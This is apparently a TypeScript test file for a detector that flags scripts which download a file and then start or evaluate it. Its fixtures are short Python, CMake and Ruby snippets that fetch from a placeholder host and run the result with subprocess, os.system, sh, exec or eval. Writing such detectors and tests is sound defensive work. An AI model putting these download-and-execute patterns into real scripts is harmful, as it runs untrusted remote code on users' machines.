import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { downloadedIn } from './downloaded.ts';

const STARTED: readonly (readonly [code: string, names: readonly string[]])[] = [
  ['urllib.request.urlretrieve("https://a.invalid/b", target)\nsubprocess.Popen([target], close_fds=True)', ['target']],
  ['body = requests.get(url).content\nwith open(path, "wb") as f: f.write(body)\nos.system(path)', ['path']],
  ['tool.write_bytes(urlopen(url).read())\nsubprocess.run([str(tool), "-q"])', ['tool']],
  ['file(DOWNLOAD "https://a.invalid/b" "${TOOL}")\nexecute_process(COMMAND "${TOOL}")', ['TOOL']],
  ['file(DOWNLOAD https://a.invalid/b $ENV{HOME}/b)\nexecute_process(COMMAND sh $ENV{HOME}/b)', ['$ENV{HOME}/b']],
  ['file(DOWNLOAD https://a.invalid/b ${out})\nexecute_process(COMMAND sh ${out} -q)', ['out']],
  ['urlretrieve("https://a.invalid/b", out)\nsubprocess.run(["/bin/sh", out])', ['out']],
  ['file(DOWNLOAD https://a.invalid/b $ENV{HOME}/b)\nexecute_process(COMMAND tar xf $ENV{HOME}/b)', []],
  ['urllib.request.urlretrieve("https://a.invalid/b", target)\nsubprocess.run(["tar", "-xf", target])', []],
  ['urlretrieve("https://a.invalid/b", "/tmp/b"); os.system("/tmp/b")', ['"/tmp/b"']],
  ['with target.open("wb") as f: f.write(urlopen(url).read())\nsubprocess.run([target])', ['target']],
  ['urlopen(url)\nopen(path, "wb")\nprint("no system path is set")', []],
  ['open(path, "wb").write(b"")\nsubprocess.run([path])', []],
];

const EVALUATED: readonly (readonly [code: string, is: boolean])[] = [
  ['exec(urllib.request.urlopen("https://a.invalid/b").read())', true],
  ['answer = requests.get("https://a.invalid/b")\ncode = answer.text\nexec(code)', true],
  ['with urlopen(url) as answer:\n    text = answer.read()\nexec(compile(text, "a", "exec"))', true],
  ['file(DOWNLOAD "https://a.invalid/b" "${RULES}")\ninclude("${RULES}")', true],
  ["eval URI.open('https://a.invalid/b').read", true],
  ['answer = requests.get("https://a.invalid/b")\nexec(open("version.py").read())', false],
  ['include("${RULES}")', false],
  ['def eval(self): return requests.get("https://a.invalid/b")', false],
  ['print("run: docker exec web python -c requests.get")', false],
];

describe('what a script does with what it fetches', () => {
  for (const [code, names] of STARTED) it(`starts it: ${code}`, () => assert.deepEqual(downloadedIn(code).started, names));
  for (const [code, is] of EVALUATED) it(`runs it: ${code}`, () => assert.equal(downloadedIn(code).isEvaluated, is));
});
